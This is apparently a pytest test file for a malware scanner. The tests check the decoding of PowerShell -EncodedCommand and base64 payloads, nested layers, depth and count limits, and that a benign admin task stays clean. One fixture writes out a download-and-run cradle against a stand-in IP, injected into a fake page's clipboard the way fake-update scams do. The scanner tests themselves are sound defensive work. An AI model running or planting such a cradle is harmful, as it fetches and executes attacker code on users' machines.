"""Scripts and pages: PowerShell -EncodedCommand and FromBase64String payloads as child items."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import pytest
from helpers import MARKER, finding_keys, reasons

from scanner.api import Scanner
from scanner.extract.script import find_payloads
from scanner.models import ItemReport, Verdict

ScannerFactory = Callable[..., Scanner]


def enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def scan(tmp_path: Path, factory: ScannerFactory, rules: Path | None, name: str, data: bytes,
         **settings: object) -> ItemReport:
    p = tmp_path / name
    p.write_bytes(data)
    return factory(rules, **settings).scan_file(str(p))


@pytest.mark.parametrize("flag", ["-e", "-en", "-enc", "-EncodedCommand", "-ENCODEDCOMMAND", "-ec", "/enc",
                                  "-encodedc"])
def test_every_accepted_switch(flag: str) -> None:
    [p] = find_payloads(f"powershell.exe -NoProfile {flag} {enc('Write-Output hello world')}")
    assert (p.kind, p.text, p.encoding) == ("encoded_command", "Write-Output hello world", "utf-16le")


@pytest.mark.parametrize("line", [
    f"powershell -ExecutionPolicy Bypass -File {enc('x' * 20)}",  # not an -EncodedCommand prefix
    f"echo -enc {enc('Write-Output hello world')}",  # no powershell on the line
])
def test_not_encoded_commands(line: str) -> None:
    assert find_payloads(line) == []


def test_base64_string_only_when_printable() -> None:
    text = "[Convert]::FromBase64String('" + base64.b64encode(b"Write-Host 'from base64'").decode() + "')"
    binary = "[Convert]::FromBase64String('" + base64.b64encode(bytes(range(200))).decode() + "')"
    [p] = find_payloads(text + "\n" + binary)
    assert (p.kind, p.text) == ("base64_string", "Write-Host 'from base64'")


def test_decoded_command_is_a_child(tmp_path: Path, rules_dir: Path, make_scanner: ScannerFactory) -> None:
    data = f"powershell -NoP -enc {enc('Write-Output ' + MARKER.decode())}\r\n".encode()
    r = scan(tmp_path, make_scanner, rules_dir, "fix.ps1", data)
    assert ("fix.ps1", "encoded-command-1.ps1") in {s.location for s in r.items}
    assert [f.location for f in r.findings if f.id == "TEST_Marker"] == [("fix.ps1", "encoded-command-1.ps1")]
    [f] = [f for f in r.findings if f.id == "encoded_command"]
    assert f.check == "script" and f.evidence["commands"][0]["preview"].startswith("Write-Output")


def test_decoded_payload_matches_bundled_rules(tmp_path: Path, make_scanner: ScannerFactory) -> None:
    cradle = "iwr http://203.0.113.50/fix/verify.ps1 | iex"
    data = f'<html><body><script>navigator.clipboard.writeText("powershell -enc {enc(cradle)}")</script>'.encode()
    r = scan(tmp_path, make_scanner, None, "page.html", data, bundled=True)
    hits = [f.location for f in r.findings if f.id == "SCAM_FakeUpdate_PS_Cradle_IEX"]
    assert hits == [("page.html", "encoded-command-1.ps1")]


def test_layers_and_max_depth(tmp_path: Path, rules_dir: Path, make_scanner: ScannerFactory) -> None:
    payload = "Write-Output " + MARKER.decode()
    for _ in range(4):
        payload = f"powershell -enc {enc(payload)}"
    r = scan(tmp_path, make_scanner, rules_dir, "onion.cmd", payload.encode())
    assert "script:layered_encoding" in finding_keys(r)
    deepest = max(r.items, key=lambda s: len(s.location)).location
    assert deepest == ("onion.cmd", *["encoded-command-1.ps1"] * 4)
    assert r.verdict is Verdict.MALICIOUS  # the marker, four layers down
    r = scan(tmp_path, make_scanner, rules_dir, "onion.cmd", payload.encode(), max_depth=2)
    assert "max_depth" in reasons(r) and "TEST_Marker" not in {f.id for f in r.findings}


def test_undecodable_command_is_incomplete(tmp_path: Path, rules_dir: Path, make_scanner: ScannerFactory) -> None:
    blob = base64.b64encode(bytes(range(256))).decode()
    r = scan(tmp_path, make_scanner, rules_dir, "x.bat", f"powershell -enc {blob}\r\n".encode())
    assert reasons(r) == {"undecodable"} and r.verdict is Verdict.INCOMPLETE


def test_payload_count_is_bounded(tmp_path: Path, rules_dir: Path, make_scanner: ScannerFactory) -> None:
    lines = "".join(f"powershell -enc {enc(f'Write-Output {i:04d} padding')}\n" for i in range(30))
    r = scan(tmp_path, make_scanner, rules_dir, "many.cmd", lines.encode())
    assert "max_children" in reasons(r)
    assert len([s for s in r.items if s.location[-1].startswith("encoded-command-")]) == 20


def test_plain_text_at_max_depth_stays_clean(tmp_path: Path, rules_dir: Path, make_scanner: ScannerFactory) -> None:
    """Text without encoded payloads has nothing to extract: no `max_depth` entry for it."""
    r = scan(tmp_path, make_scanner, rules_dir, "note.txt", b"just a note\n", max_depth=0)
    assert r.verdict is Verdict.CLEAN and not r.incomplete


def test_admin_script_with_encoded_command_stays_clean(tmp_path: Path, make_scanner: ScannerFactory) -> None:
    """Admins use -EncodedCommand to dodge quoting in schtasks: alone it is a low finding, not a verdict."""
    task = enc("Remove-Item $env:TEMP\\*.tmp -Force")
    data = ("# weekly cleanup task\r\n"
            f"$cmd = 'powershell.exe -NoProfile -EncodedCommand {task}'\r\n"
            "schtasks /Create /SC WEEKLY /TN 'Cleanup' /TR $cmd /F\r\n").encode()
    r = scan(tmp_path, make_scanner, None, "cleanup.ps1", data, bundled=True)
    assert finding_keys(r) == {"script:encoded_command"} and r.verdict is Verdict.CLEAN
    assert ("cleanup.ps1", "encoded-command-1.ps1") in {s.location for s in r.items}
